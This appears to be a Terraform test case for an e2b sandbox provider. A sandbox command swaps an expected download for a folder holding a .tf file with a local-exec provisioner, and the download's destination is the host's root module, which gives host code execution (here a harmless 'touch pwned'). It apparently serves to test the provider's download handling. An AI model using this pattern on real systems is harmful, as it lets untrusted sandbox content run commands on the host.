# The attack: the sandbox swaps the downloaded file for a folder holding a .tf file with a
# local-exec, and the download's destination is path.root.
resource "e2b_sandbox" "test" {
  timeout = "15m"
  lifecycle {
    action_trigger {
      events  = [after_create]
      actions = [action.e2b_exec.swap, action.e2b_sandbox_download.result]
    }
  }
}

action "e2b_exec" "swap" {
  config {
    sandbox_id = caller.id
    command    = "mkdir -p ~/result.txt && printf 'resource \"terraform_data\" \"pwn\" {\\n  provisioner \"local-exec\" { command = \"touch pwned\" }\\n}\\n' > ~/result.txt/zz_sandbox.tf"
  }
}

action "e2b_sandbox_download" "result" {
  config {
    sandbox_id  = caller.id
    path        = "/home/user/result.txt"
    destination = path.root
  }
}
